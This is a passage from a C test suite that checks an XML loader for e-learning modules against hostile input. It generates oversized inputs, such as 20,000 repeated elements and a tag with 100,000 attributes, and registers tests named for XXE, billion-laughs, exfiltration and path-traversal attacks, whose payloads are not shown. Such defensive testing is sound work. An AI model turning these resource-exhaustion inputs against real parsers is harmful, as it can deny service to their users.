  { "<video id=\"klip\"", "id", "klip" },
  { "question=\"q-pilih\"", "question", "q-pilih" },
  { "<quiz id=\"latihan\"", "id", "latihan" },
  { "<question id=\"q-pilih\"", "id", "q-pilih" },
  { "<option id=\"a\"", "id", "a" },
  { "<item id=\"i1\"", "id", "i1" },
  { "<pair id=\"p1\"", "id", "p1" },
  { "<question id=\"q-urut\" topic=\"topik\"", "topic", "topik" },
  { "pool=\"pretes\"", "pool", "pretes" },
  { "<quiz id=\"postes\"", "id", "postes" },
};

static int
line_of (const char *text,
         const char *needle)
{
  const char *found = strstr (text, needle);
  int line = 1;

  g_assert_nonnull (found);
  for (const char *p = text; p < found; p++)
    if (*p == '\n')
      line++;

  return line;
}

static void
test_ids_every_attribute (Hostile       *h,
                          gconstpointer  data)
{
  /* the template itself is valid */
  {
    g_autoptr(GPtrArray) diagnostics = bekal_diagnostics_new ();
    g_autoptr(BekalModule) module = NULL;

    write_module (h, ids_module, -1);
    module = load (h, diagnostics, NULL);
    test_dump_diagnostics (diagnostics);
    g_assert_nonnull (module);
    g_assert_cmpuint (diagnostics->len, ==, 0);
  }

  for (guint i = 0; i < G_N_ELEMENTS (id_sites); i++)
    {
      /* before and after the value: white space, or nothing for the empty value */
      static const char * const paddings[][2] = {
        { " ", " " }, { "\t", "" }, { "", " " }, { "  ", "\t" },
      };
      int line = line_of (ids_module, id_sites[i].text);

      for (guint k = 0; k < G_N_ELEMENTS (paddings) + 1; k++)
        {
          g_autoptr(GPtrArray) diagnostics = bekal_diagnostics_new ();
          g_autoptr(GError) error = NULL;
          g_autoptr(BekalModule) module = NULL;
          g_autofree char *old_value = g_strdup_printf ("\"%s\"", id_sites[i].value);
          g_autofree char *bad = k < G_N_ELEMENTS (paddings)
                                 ? g_strconcat (paddings[k][0], id_sites[i].value,
                                                paddings[k][1], NULL)
                                 : g_strdup ("");
          g_autofree char *bad_value = g_strdup_printf ("\"%s\"", bad);
          g_autofree char *bad_site = NULL;
          g_autofree char *contents = NULL;
          g_autofree char *attribute = g_strdup_printf ("“%s”", id_sites[i].attribute);
          guint n_on_line = 0;

          bad_site = replace_once (id_sites[i].text, old_value, bad_value);
          contents = replace_once (ids_module, id_sites[i].text, bad_site);
          write_module (h, contents, -1);
          module = load (h, diagnostics, &error);
          g_assert_null (module);
          g_assert_error (error, BEKAL_LOADER_ERROR, BEKAL_LOADER_ERROR_INVALID);

          for (guint d = 0; d < diagnostics->len; d++)
            {
              const BekalDiagnostic *diagnostic = g_ptr_array_index (diagnostics, d);
              const char *message = bekal_diagnostic_get_message (diagnostic);

              if (bekal_diagnostic_get_line (diagnostic) != line)
                continue;
              n_on_line++;
              if (strstr (message, attribute) == NULL
                  || strstr (message, k < G_N_ELEMENTS (paddings) ? "spaces" : "empty") == NULL)
                {
                  test_dump_diagnostics (diagnostics);
                  g_error ("site %s, value “%s”: unexpected message “%s”", id_sites[i].text,
                           bad, message);
                }
            }

          /* one message on that line, and for white space around a value nothing else: the
           * value still means what it meant */
          if (n_on_line != 1 || (k < G_N_ELEMENTS (paddings) && diagnostics->len != 1))
            {
              test_dump_diagnostics (diagnostics);
              g_error ("site %s, value “%s”: %u messages on line %d, %u in all",
                       id_sites[i].text, bad, n_on_line, line, diagnostics->len);
            }
          assert_contained (h, diagnostics, NULL);
        }
    }
}

/* Linear loading (issue 12): 20 000 repeated elements of each kind, which took seconds when
 * the loader compared siblings pairwise, load; bench-loader-scaling measures the time */

#define N_MANY 20000

static char *
many_elements (const char *kind)
{
  GString *xml = g_string_new ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                               "<module xmlns=\"urn:bekal:module:1\" id=\"banyak\" version=\"1\" "
                               "xml:lang=\"id\"><title>T</title><summary>S</summary>"
                               "<meta><author>A</author></meta>\n<topics>\n");

  if (g_str_equal (kind, "topics"))
    for (guint i = 0; i < N_MANY; i++)
      g_string_append_printf (xml, "<topic id=\"t%u\">T</topic>\n", i);
  else
    g_string_append (xml, "<topic id=\"t0\">T</topic>\n");
  g_string_append (xml, "</topics>\n");

  if (g_str_equal (kind, "questions"))
    {
      g_string_append (xml, "<quiz id=\"pre\" role=\"pretest\" draw=\"10\">\n");
      for (guint i = 0; i < N_MANY; i++)
        g_string_append_printf (xml, "<question id=\"q%u\" topic=\"t0\" type=\"truefalse\" "
                                "answer=\"true\"><prompt>P</prompt><explanation>E</explanation>"
                                "</question>\n", i);
      g_string_append (xml, "</quiz>\n");
    }

  g_string_append (xml, "<lesson id=\"l\"><title>L</title>\n");
  if (g_str_equal (kind, "options"))
    {
      g_string_append (xml, "<quiz id=\"latihan\" role=\"practice\"><question id=\"q\" "
                       "topic=\"t0\" type=\"single\"><prompt>P</prompt>\n"
                       "<option id=\"o0\" correct=\"true\">O</option>\n");
      for (guint i = 1; i < N_MANY; i++)
        g_string_append_printf (xml, "<option id=\"o%u\">O %u</option>\n", i, i);
      g_string_append (xml, "<explanation>E</explanation></question></quiz>\n");
    }
  else if (g_str_equal (kind, "chapters"))
    {
      g_string_append (xml, "<video id=\"v\" src=\"media:sampel-01-orientasi.webm\"><title>V"
                       "</title><subtitles xml:lang=\"id\" "
                       "src=\"media:sampel-01-orientasi.id.vtt\"/>\n");
      for (guint i = 0; i < N_MANY; i++)
        g_string_append_printf (xml, "<chapter at=\"%u\">Bab %u</chapter>\n", i, i);
      g_string_append (xml, "</video>\n");
    }
  else if (g_str_equal (kind, "attributes"))
    for (guint i = 0; i < N_MANY; i += 10)
      g_string_append (xml, "<p a0=\"x\" a1=\"x\" a2=\"x\" a3=\"x\" a4=\"x\" a5=\"x\" a6=\"x\" "
                       "a7=\"x\" a8=\"x\" a9=\"x\">P</p>\n");
  else
    for (guint i = 0; i < (g_str_equal (kind, "paragraphs") ? N_MANY : 1); i++)
      g_string_append_printf (xml, "<p>Paragraf %u.</p>\n", i);
  g_string_append (xml, "</lesson>\n</module>\n");

  return g_string_free (xml, FALSE);
}

static void
test_many_elements (Hostile       *h,
                    gconstpointer  data)
{
  const char *kind = data;
  g_autofree char *contents = many_elements (kind);
  g_autoptr(GPtrArray) diagnostics = bekal_diagnostics_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(BekalModule) module = NULL;

  write_module (h, contents, -1);
  module = load (h, diagnostics, &error);

  if (g_str_equal (kind, "attributes"))
    {
      /* one error for each paragraph with unknown attributes */
      g_assert_null (module);
      g_assert_cmpuint (bekal_diagnostics_count (diagnostics, BEKAL_SEVERITY_ERROR), ==,
                        N_MANY / 10);
      g_assert_cmpint (bekal_diagnostic_get_line (g_ptr_array_index (diagnostics,
                                                                      N_MANY / 10 - 1)),
                       ==, line_of (contents, "<p a0") + N_MANY / 10 - 1);
    }
  else
    {
      if (module == NULL)
        test_dump_diagnostics (diagnostics);
      g_assert_no_error (error);
      g_assert_nonnull (module);
      g_assert_cmpuint (diagnostics->len, ==, 0);
    }

  if (g_str_equal (kind, "options"))
    g_assert_cmpuint (bekal_question_get_n_options (bekal_module_find_question (module, "q")),
                      ==, N_MANY);
  else if (g_str_equal (kind, "questions"))
    g_assert_cmpuint (bekal_quiz_get_n_questions (bekal_module_find_quiz (module, "pre")), ==,
                      N_MANY);
  else if (g_str_equal (kind, "topics"))
    g_assert_cmpuint (bekal_module_get_n_topics (module), ==, N_MANY);
  else if (g_str_equal (kind, "chapters"))
    g_assert_cmpuint (bekal_media_get_n_chapters (bekal_module_get_media (module, 0)), ==,
                      N_MANY);
  else if (g_str_equal (kind, "paragraphs"))
    g_assert_cmpuint (bekal_lesson_get_n_blocks (bekal_module_get_lesson (module, 0)), ==,
                      N_MANY);
}

/* libxml2 compares the attributes of one tag pairwise: a tag with 100 000 is refused before */
static void
test_attributes_on_one_element (Hostile       *h,
                                gconstpointer  data)
{
  g_autofree char *minimal = read_minimal ();
  GString *tag = g_string_new ("<p");
  g_autofree char *tag_text = NULL;
  g_autofree char *contents = NULL;
  g_autoptr(GPtrArray) diagnostics = bekal_diagnostics_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(BekalModule) module = NULL;
  const BekalDiagnostic *d;

  for (guint i = 0; i < 100000; i++)
    g_string_append_printf (tag, " a%u=\"x>\"", i);
  tag_text = g_string_free (tag, FALSE);
  contents = replace_once (minimal, "<p", tag_text);

  write_module (h, contents, -1);
  module = load (h, diagnostics, &error);
  test_dump_diagnostics (diagnostics);
  g_assert_null (module);
  g_assert_cmpuint (diagnostics->len, ==, 1);
  d = g_ptr_array_index (diagnostics, 0);
  g_assert_nonnull (strstr (bekal_diagnostic_get_message (d), "100000 attributes"));
  g_assert_cmpint (bekal_diagnostic_get_line (d), ==, line_of (contents, tag_text));
  /* the paragraph of the minimal fixture is indented by four spaces */
  g_assert_cmpint (bekal_diagnostic_get_column (d), ==, 5);

  /* 64 attributes, namespace declarations included, are still read by the schema */
  {
    g_autoptr(GPtrArray) fewer = bekal_diagnostics_new ();
    GString *small = g_string_new ("<p");
    g_autofree char *small_text = NULL;
    g_autofree char *small_contents = NULL;

    for (guint i = 0; i < BEKAL_LOADER_MAX_ATTRIBUTES; i++)
      g_string_append_printf (small, " a%u=\"x\"", i);
    small_text = g_string_free (small, FALSE);
    small_contents = replace_once (minimal, "<p", small_text);
    write_module (h, small_contents, -1);
    g_clear_error (&error);
    g_assert_null (load (h, fewer, &error));
    g_assert_cmpuint (fewer->len, ==, 1);
    g_assert_nonnull (strstr (bekal_diagnostic_get_message (g_ptr_array_index (fewer, 0)),
                              "<p> has no attributes: remove “a0”."));
  }

  assert_contained (h, diagnostics, NULL);
}

/* Lines beyond 65 535, which libxml2 does not keep in an element without help */
static void
test_line_beyond_65535 (Hostile       *h,
                        gconstpointer  data)
{
  g_autofree char *minimal = read_minimal ();
  GString *paragraphs = g_string_new (NULL);
  g_autofree char *paragraphs_text = NULL;
  g_autofree char *contents = NULL;
  g_autoptr(GPtrArray) diagnostics = bekal_diagnostics_new ();
  g_autoptr(GError) error = NULL;
  g_autoptr(BekalModule) module = NULL;
  const BekalDiagnostic *d;

  for (guint i = 0; i < 70000; i++)
    g_string_append (paragraphs, "<p>P</p>\n");
  g_string_append (paragraphs, "    <p>Seorang <term ref=\"tidak-ada\">peksos</term>.</p>\n    <p");
  paragraphs_text = g_string_free (paragraphs, FALSE);
  contents = replace_once (minimal, "<p", paragraphs_text);

  write_module (h, contents, -1);
  module = load (h, diagnostics, &error);
  test_dump_diagnostics (diagnostics);
  g_assert_null (module);
  g_assert_cmpuint (diagnostics->len, ==, 1);
  d = g_ptr_array_index (diagnostics, 0);
  g_assert_nonnull (strstr (bekal_diagnostic_get_message (d), "tidak-ada"));
  g_assert_cmpint (bekal_diagnostic_get_line (d), ==, line_of (contents, "ref=\"tidak-ada\""));
  g_assert_cmpint (bekal_diagnostic_get_line (d), >, 70000);
}

static void
add_hostile (const char *name,
             void      (*func) (Hostile *, gconstpointer))
{
  g_autofree char *path = g_strdup_printf ("/hostile/%s", name);

  g_test_add (path, Hostile, NULL, hostile_setup, func, hostile_teardown);
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/hostile/huge-file", test_huge_file);
  g_test_add_func ("/hostile/check/rss-measure", test_rss_measure_works);
  g_test_add_func ("/hostile/check/interposition", test_interposition_works);
  add_hostile ("check/inotify", test_inotify_works);

  add_hostile ("entity/external-file-uri", test_external_entity_file_uri);
  add_hostile ("entity/external-path", test_external_entity_path);
  add_hostile ("entity/external-in-attribute", test_external_entity_in_attribute);
  add_hostile ("entity/billion-laughs", test_billion_laughs);
  add_hostile ("entity/parameter-remote", test_parameter_entity_remote);
  add_hostile ("entity/parameter-exfiltration", test_parameter_entity_exfiltration);
  add_hostile ("dtd/external-http", test_external_dtd_http);
  add_hostile ("dtd/external-file", test_external_dtd_file);
  add_hostile ("xinclude", test_xinclude);

  add_hostile ("encoding/invalid-utf8", test_invalid_utf8);
  add_hostile ("encoding/latin1", test_latin1);
  add_hostile ("encoding/utf16", test_utf16);
  add_hostile ("broken/empty", test_empty);
  add_hostile ("broken/only-whitespace", test_only_whitespace);
  add_hostile ("broken/truncated", test_truncated);
  add_hostile ("broken/garbage", test_garbage);
  add_hostile ("broken/garbage-after-declaration", test_garbage_after_declaration);
  add_hostile ("broken/deep-nesting", test_deep_nesting);

  add_hostile ("not-a-module/wrong-root", test_wrong_root);
  add_hostile ("not-a-module/wrong-namespace", test_wrong_namespace);
  add_hostile ("not-a-module/no-namespace", test_no_namespace);

  add_hostile ("reference/path-traversal", test_path_traversal);
  add_hostile ("reference/absolute-path", test_absolute_path);
  add_hostile ("reference/symlink-out", test_symlink_out);
  add_hostile ("reference/url", test_url_media);

  add_hostile ("text/markup", test_markup_in_text);

  add_hostile ("ids/every-attribute", test_ids_every_attribute);
  add_hostile ("size/attributes-on-one-element", test_attributes_on_one_element);
  add_hostile ("size/line-beyond-65535", test_line_beyond_65535);
  {
    static const char * const kinds[] = {
      "options", "chapters", "questions", "topics", "attributes", "paragraphs",
    };

    for (guint i = 0; i < G_N_ELEMENTS (kinds); i++)
      {
        g_autofree char *path = g_strdup_printf ("/hostile/size/20000-%s", kinds[i]);

        g_test_add (path, Hostile, kinds[i], hostile_setup, test_many_elements,
                    hostile_teardown);
      }
  }

  return g_test_run ();
}
